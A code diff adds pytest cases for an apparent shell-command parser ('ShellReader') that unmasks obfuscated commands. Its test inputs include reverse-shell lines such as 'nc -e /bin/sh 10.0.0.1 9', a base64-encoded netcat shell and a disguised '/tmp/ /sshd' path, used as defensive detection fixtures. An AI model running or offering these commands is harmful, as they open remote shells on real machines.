@@ -260,3 +260,13 @@ def test_what_eval_and_read_assign_stays_set():
     reader = ShellReader()
     assert [c.line for c in reader.read('eval "$(echo ZXhwb3J0IFg9bmM= | base64 -d)"; $X -e sh')][-1] == "nc -e sh"
     assert [c.line for c in reader.read('IFS=: read -r a b <<< "nc:x"; $a -e sh')][-1] == "nc -e sh"
+
+
+@pytest.mark.parametrize("text", ["'/tmp/ /sshd'", "echo hi; '/tmp/  /sshd'", "/tmp/\\ /sshd", '"/tmp/ /sshd"'])
+def test_a_quoted_program_path_with_spaces_is_one_program(text):
+    assert ShellReader().read(text, Session())[-1].name.strip() == "sshd"
+
+
+def test_a_variable_holding_a_command_line_is_still_read_as_one():
+    cmds = ShellReader().read('c="nc -e /bin/sh 10.0.0.1 9"; "$c"', Session())
+    assert [c.name for c in cmds][-1] == "nc"
